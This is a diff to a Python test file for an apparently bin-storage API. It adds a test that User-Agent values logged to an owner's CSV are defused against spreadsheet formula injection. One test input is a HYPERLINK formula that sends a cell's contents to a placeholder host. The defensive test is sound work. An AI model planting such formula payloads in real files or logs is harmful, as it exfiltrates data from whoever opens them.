@@ -124,3 +124,37 @@ def test_logs_need_the_master_key(api, owner):
     assert api.get("/v3/l").status == 401
     reader = api.access_key(owner, "read")
     assert api.get("/v3/l", {"X-Access-Key": reader}).status == 401
+
+
+FORMULAS = [
+    '=HYPERLINK("https://example.invalid/?leak="&A1,"click")',
+    "+SUM(1,2)",
+    "-2+3",
+    "@cmd",
+    "\tindented",
+]
+
+
+def test_cells_a_spreadsheet_would_run_as_formulas_are_neutralised(api, owner):
+    """A keyless reader of a public bin chooses its User-Agent, which lands in the owner's CSV:
+    a cell starting with =, +, -, @, a tab or a carriage return gets a leading ' (OWASP)."""
+    key = {"X-Master-Key": owner.key}
+    bin_id = api.create_bin(owner, USERS, X_Bin_Private="false")
+    for agent in FORMULAS:
+        assert api.get(f"/v3/b/{bin_id}", {"User-Agent": agent}).status == 200
+
+    def agents(reply) -> set[str]:
+        if reply.status != 200:
+            return set()
+        return {row["userAgent"] for row in log_rows(reply) if row["keyKind"] == "none"}
+
+    # a header value's surrounding tabs are not part of it (docs/API.md §1): "indented" is
+    # logged without its tab (tests/unit/test_validation.py covers the tab and the return)
+    expected = {"'" + agent for agent in FORMULAS[:4]} | {"indented"}
+    day = eventually(
+        api, lambda: api.get(f"/v3/l/{today()}", key), lambda r: len(agents(r)) >= len(FORMULAS)
+    )
+    assert agents(day) == expected
+    for row in log_rows(day):
+        for cell in row.values():
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
